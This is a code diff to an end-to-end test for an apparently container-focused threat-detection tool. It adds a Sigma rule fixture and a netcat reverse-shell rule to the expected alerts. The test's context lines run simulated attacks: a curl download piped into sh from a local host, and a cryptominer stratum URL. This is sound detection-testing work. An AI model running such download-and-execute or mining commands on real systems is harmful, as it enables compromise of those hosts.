@@ -42,6 +42,7 @@ describe('detection end to end (attack lab on the real engines)', () => {
         'detect.window=4s',
         `detect.rules=["${customRules}"]`,
         'detect.reload_interval=500ms',
+        `detect.sigma=["${join(process.cwd(), 'test', 'fixtures', 'sigma')}"]`,
       ],
     });
     await dw.waitFor(/dockward running/);
@@ -65,7 +66,8 @@ describe('detection end to end (attack lab on the real engines)', () => {
     await exec(id, ['sh', '-c', 'curl -s http://127.0.0.1:8000/x.sh | sh']);
     await exec(id, ['sh', '-c', 'echo mining with stratum+tcp://127.0.0.1:3333']);
     await exec(id, ['sh', '-c', 'exit 0'], true);
-    const a = await alertsFor(id, ['dockward-reverse-shell-nc', 'dockward-download-exec', 'dockward-miner-process', 'dockward-interactive-exec']);
+    // sigma-7f73…: SigmaHQ's "Potential Netcat Reverse Shell Execution", loaded from test/fixtures/sigma.
+    const a = await alertsFor(id, ['dockward-reverse-shell-nc', 'dockward-download-exec', 'dockward-miner-process', 'dockward-interactive-exec', 'sigma-7f734ed0-4f47-46c0-837f-6ee62505abd9']);
     assert.ok(a.find((x) => x.rule.id === 'dockward-reverse-shell-nc')!.threat.technique.subtechnique!.id.includes('T1059.004'));
   });
 
